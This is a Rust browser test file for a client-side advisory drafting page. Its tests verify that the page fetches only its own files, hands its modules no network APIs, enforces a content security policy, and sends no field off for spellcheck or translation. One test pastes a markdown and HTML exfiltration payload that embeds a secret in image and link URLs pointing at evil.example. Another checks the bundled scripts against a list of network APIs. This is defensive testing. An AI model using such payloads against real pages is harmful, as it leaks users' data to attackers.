//! Nothing leaves the browser. That the page asks only its own server for its own files is checked after every test;
//! here is the rest.

use crate::addresses::VIEWS;
use crate::exchange::import;
use crate::harness::{Role, browse};
use crate::journey;
use advisory_desk_tests::{is_set_up, skip};
use serde_json::json;
use std::collections::BTreeSet;
use std::fs;

#[test]
fn what_is_typed_asks_for_nothing_but_the_list_of_weaknesses() {
    browse(|page| async move {
        page.open("#/draft/title").await;
        page.is_kept().await;
        page.requests().await;
        journey::fill_formidable_from_here(&page).await;
        let asked: Vec<String> = page.requests().await.into_iter().map(|request| request.address).collect();
        assert_eq!(asked, [page.address("cwe.txt")]);
    });
}

/// What a module can do beyond computing is what its script hands to it: no module is handed a way to connect.
#[test]
fn the_modules_are_handed_no_way_to_connect() {
    if !is_set_up() {
        return skip("the page is not built");
    }
    for script in ["advisory_desk_web.js", "advisory_desk_calculator_page.js"] {
        let path = format!("{}/../dist/{script}", env!("CARGO_MANIFEST_DIR"));
        let text = fs::read_to_string(&path).expect("the page is built");
        assert!(text.contains("__wbg_"), "{script} hands something to its module");
        for way in
            ["__wbg_fetch", "XMLHttpRequest", "WebSocket", "EventSource", "sendBeacon", "RTCPeerConnection"]
        {
            assert!(!text.contains(way), "{script} hands {way} to its module");
        }
    }
}

/// The files that the page is made of.
fn own_files() -> BTreeSet<String> {
    let dist = fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/../dist")).expect("the page is built");
    dist.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned()).collect()
}

#[test]
fn a_whole_session_asks_for_the_pages_own_files_alone_and_names_nothing_after_the_draft() {
    browse(|page| async move {
        let secret = "xyzzy";
        page.open("#/").await;
        page.is_kept().await;
        page.open("#/draft/title").await;
        journey::fill_formidable_from_here(&page).await;
        page.open("#/draft/title").await;
        page.field("Title").fill(secret).await;
        page.open("#/draft/description").await;
        let hostile = format!(
            "![pixel](https://evil.example/{secret}.png) [link](https://evil.example/?{secret}) <img src=//evil.example/{secret}>\n\
             <https://evil.example/{secret}> ![](data:image/png;base64,{secret}) [x]: //evil.example/{secret}"
        );
        page.field("Description").paste(&hostile).await;
        page.control(Role::Link, "link").element().await;
        for (name, address, _) in VIEWS {
            page.open(address).await;
            assert!(!page.title().await.contains(secret), "the title of {name}");
            assert!(!page.hash().await.contains(secret), "the address of {name}");
        }
        page.open("#/runbook").await;
        let plain = page.saved_by(&page.button("Save draft to a file")).await;
        page.button("Save encrypted").click().await;
        page.field("Pass phrase").fill(&secret.repeat(3)).await;
        page.field("Repeat it").fill(&secret.repeat(3)).await;
        let sealed = page.saved_by(&page.button("Save the file")).await;
        page.open("#/review").await;
        page.control(Role::Combobox, "Format").choose("CSAF").await;
        page.button("Copy CSAF").element().await;
        import(&page, &plain.text).await;
        page.open("#/").await;
        page.choose_file(&sealed.name, sealed.text.as_bytes()).await;
        page.field("Pass phrase").fill(&secret.repeat(3)).await;
        page.button("Open").click().await;
        page.arrived("#/runbook").await;
        assert_eq!([plain.name, sealed.name], ["advisory-draft.json", "advisory-draft.encrypted"]);

        let (files, folder) = (own_files(), page.address(""));
        let requests = page.requests().await;
        assert!(requests.len() > 10, "they are recorded: {requests:?}");
        for request in &requests {
            let own = request
                .address
                .strip_prefix(&folder)
                .is_some_and(|name| name.is_empty() || files.contains(name));
            // A saved file, and the picture of the browser's own calendar.
            let made_here =
                ["blob:", "data:image/svg+xml;"].iter().any(|kind| request.address.starts_with(kind));
            assert!((own || made_here) && request.method == "GET" && !request.has_body, "{request:?}");
        }
        println!("{} requests, all for the page's own files", requests.len());
    });
}

#[test]
fn the_policy_is_in_force() {
    browse(|page| async move {
        page.open("#/").await;
        assert_eq!(page.tries("document.body.innerHTML = '<p>injected</p>'").await, "TypeError");
        assert_eq!(page.tries("eval('1')").await, "EvalError");
        let elsewhere = "const done = arguments[0]; fetch('https://example.com/').then(() => done('allowed'), () => done('refused'))";
        assert_eq!(page.script_later(elsewhere).await, "refused");
        page.complaints().await;
    });
}

#[test]
fn no_field_is_sent_off_for_spelling_or_translation() {
    browse(|page| async move {
        journey::fill_formidable(&page).await;
        for (name, address, _) in VIEWS {
            page.open(address).await;
            let careless = page
                .script(
                    "return [...document.querySelectorAll('input[type=text], textarea')].filter((field) => field.spellcheck
                    || field.autocomplete !== 'off' || field.translate).map((field) => field.outerHTML)",
                )
                .await;
            assert_eq!(careless, json!([]), "on {name}");
        }
    });
}

#[test]
fn nothing_is_styled_by_attribute() {
    browse(|page| async move {
        journey::fill_formidable(&page).await;
        for (name, address, _) in VIEWS {
            page.open(address).await;
            assert_eq!(
                page.script("return document.querySelectorAll('[style]').length").await,
                0,
                "on {name}"
            );
        }
    });
}
